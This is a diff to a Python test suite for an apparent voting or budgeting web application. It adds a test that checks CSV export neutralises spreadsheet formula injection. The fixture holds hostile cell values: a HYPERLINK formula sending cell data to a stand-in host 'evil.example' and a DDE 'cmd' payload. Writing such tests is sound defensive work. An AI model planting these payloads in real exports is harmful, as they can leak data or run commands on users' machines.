@@ -6,6 +6,7 @@ import os
 
 from client import Session
 from harness import (Server, admin_session, build_world, cast, check, cli, close_poll, create_congress, dep_session, expect,
+                     make_cycle,
                      login_session)
 
 COMMANDS = ["init", "serve", "demo", "user", "poll", "export", "tally", "copy", "api-schema", "audit"]
@@ -165,3 +166,35 @@ def test_user_add_goes_through_the_rules(ctx):
     entries = expect(admin.get("/api/v1/audit?q=user.create"), 200, what="audit")["items"]
     check(any(e["object"] == "user/%d" % me["user"]["id"] and e["user_id"] is None for e in entries),
           "no audit entry by the system for the CLI's account", entries)
+
+
+def test_export_neutralises_formulas(ctx):
+    """issue 11 defect 5: a text cell that begins with = + - @ tab or CR is exported with a single quote in front"""
+    srv = ctx.new_server()
+    admin = admin_session(srv)
+    congress = create_congress(admin)
+    cycle, _ = make_cycle(admin, congress, [], to_phase="collect")
+    unit = expect(admin.post("/api/v1/congresses/%d/units" % congress, {"name": "@单位", "name_en": "-unit"}), 201,
+                  what="create unit")["id"]
+    hostile = {"title": '=HYPERLINK("http://evil.example/?"&A1,"点击")', "title_en": "+cmd|' /C calc'!A0",
+               "category": "-2+3", "location": "@SUM(A1:A9)", "description": "\tsee", "description_en": "\rx"}
+    body = dict(hostile, cost=100, unit_id=unit)
+    expect(admin.post("/api/v1/cycles/%d/candidates" % cycle, body), 201, what="create a candidate with formula text")
+    expect(admin.post("/api/v1/cycles/%d/candidates" % cycle,
+                      {"title": "普通项目", "title_en": "plain", "description": "说明", "category": "住房", "cost": 5,
+                       "unit_id": unit, "location": "江北区"}), 201, what="create a plain candidate")
+    text = cli(["export", "candidates", "--cycle", str(cycle), "--db", srv.db]).stdout.decode()
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    check(len(rows) == 2, "export candidates should list two rows", rows)
+    bad = [r for r in rows if r["title"] != "普通项目"][0]
+    plain = [r for r in rows if r["title"] == "普通项目"][0]
+    stored = {"title": bad["title"], "title_en": bad["title_en"], "category": bad["category"],
+              "location": bad["location"], "description": bad["description"], "unit_name": bad["unit_name"]}
+    got = {k: v for k, v in stored.items() if v[:1] in ("=", "+", "-", "@", "\t", "\r")}
+    check(not got, "cells that begin with a formula character are exported as they are", got, text)
+    for k, v in hostile.items():
+        if k in stored:
+            check(stored[k] in ("'" + v, "'" + v.strip()), "cell %s not neutralised with a quote" % k, stored[k], v)
+    check(bad["unit_name"] == "'@单位", "the unit's name not neutralised", bad["unit_name"])
+    check(plain["category"] == "住房" and plain["cost"] == "5" and bad["cost"] == "100",
+          "plain cells and numbers must be exported unchanged", plain, bad)
